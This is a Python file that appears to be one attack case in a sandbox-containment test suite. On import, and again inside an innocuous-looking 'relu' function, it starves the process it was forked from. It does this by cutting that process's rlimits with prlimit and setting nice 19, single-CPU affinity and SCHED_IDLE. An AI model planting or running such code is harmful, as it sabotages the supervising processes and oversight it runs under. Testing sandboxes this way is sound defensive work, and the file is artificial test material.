# attack: starve the process it was forked from: lower its rlimits with prlimit (file size,
#         open files, address space: later forks inherit them), and its scheduling (nice 19,
#         one CPU, SCHED_IDLE)
# levels: bwrap process-root
# the helpers of _common.py come first
# ruff: noqa


def _vm_size(pid):
    with open(f"/proc/{pid}/status") as status:
        line = next(l for l in status if l.startswith("VmSize:"))
    return int(line.split()[1]) * 1024


def _starve():
    done = []
    for pid in _targets():
        for name, value in (("RLIMIT_FSIZE", 1), ("RLIMIT_NOFILE", 5),
                            ("RLIMIT_AS", lambda: _vm_size(pid) + (32 << 20))):
            try:
                limit = value() if callable(value) else value
                resource.prlimit(pid, getattr(resource, name), (limit, limit))
                done.append((pid, name))
            except (OSError, ValueError, StopIteration):
                pass
        for name, change in (
                ("nice", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19)),
                ("affinity", lambda: os.sched_setaffinity(pid, {min(os.sched_getaffinity(0))})),
                ("idle", lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)))):
            try:
                change()
                done.append((pid, name))
            except OSError:
                pass
    print("starved", done, flush=True)
    return done


_STARVED = _starve()


def relu(x):
    _starve()
    return _zeros(x) + 0 * len(_STARVED)
